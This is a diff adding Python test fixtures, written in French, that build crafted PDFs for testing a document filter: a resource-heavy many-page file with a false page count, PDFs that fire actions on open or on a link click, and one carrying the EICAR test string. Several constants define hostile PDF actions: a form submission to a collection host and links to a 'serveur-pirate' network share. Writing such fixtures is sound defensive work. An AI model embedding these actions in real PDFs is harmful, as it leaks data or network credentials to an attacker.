@@ -334,3 +334,66 @@ def pdf_corrompu():
 def pdf_polyglotte_zip():
     """PDF valide suivi d'une archive ZIP (fichier lisible à la fois comme PDF et comme ZIP)."""
     return pdf_simple() + zip_contenant()
+
+
+# --- Fichiers coûteux (issue 11, item 3) et trous du filtre PDF ----------------------------------
+
+
+def pdf_pages(nombre, *, count_annonce=None):
+    """PDF écrit à la main de `nombre` pages qui partagent un même contenu : ~120 octets par page.
+
+    20 000 pages font ~2,4 Mo, comme le fichier de l'essai (2,2 Mo). `count_annonce` remplace le /Count
+    de l'arbre des pages (un fichier forgé peut mentir).
+    """
+    contenu = b"BT /F1 12 Tf 72 720 Td (Page) Tj ET"
+    count = nombre if count_annonce is None else count_annonce
+    kids = " ".join(f"{4 + i} 0 R" for i in range(nombre)).encode()
+    objets = [
+        b"<< /Type /Catalog /Pages 2 0 R >>",
+        b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
+        b"<< /Length %d >>\nstream\n" % len(contenu) + contenu + b"\nendstream",
+    ]
+    objets += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R >>"] * nombre
+    return pdf_objets_bruts(objets)
+
+
+def pdf_avec_action(action):
+    """PDF d'une page dont l'ouverture déclenche `action` (dictionnaire PDF brut)."""
+    return pdf_objets_bruts([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", *_PAGES_BRUTES[1:], action])
+
+
+def pdf_lien_page(action):
+    """PDF d'une page portant une annotation de lien vers `action` (clic de l'agent)."""
+    return pdf_objets_bruts(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            _PAGES_BRUTES[1],
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>",
+            b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A 5 0 R >>",
+            action,
+        ]
+    )
+
+
+PDF_ENVOI_FORMULAIRE = b"<< /S /SubmitForm /F << /FS /URL /F (https://collecte.example/recevoir) >> >>"
+PDF_OUVERTURE_PARTAGE_RESEAU = b"<< /S /GoToR /F (\\\\\\\\serveur-pirate\\\\partage\\\\piege.pdf) /D [0 /Fit] >>"
+PDF_LIEN_FICHIER_LOCAL = b"<< /S /URI /URI (file://serveur-pirate/partage/piege.pdf) >>"
+PDF_LIEN_WEB = b"<< /S /URI /URI (https://www.service-public.fr/) >>"
+FACTURX_XML = (
+    b'<?xml version="1.0" encoding="UTF-8"?>\n'
+    b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>'
+)
+
+
+def pdf_avec_eicar():
+    """PDF valide dont le contenu de page porte la chaîne de test EICAR (faux virus standard)."""
+    from tests.clamav import EICAR
+
+    return pdf_objets_bruts(
+        [
+            b"<< /Type /Catalog /Pages 2 0 R >>",
+            _PAGES_BRUTES[1],
+            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
+            b"<< /Length %d >>\nstream\n" % len(EICAR) + EICAR + b"\nendstream",
+        ]
+    )
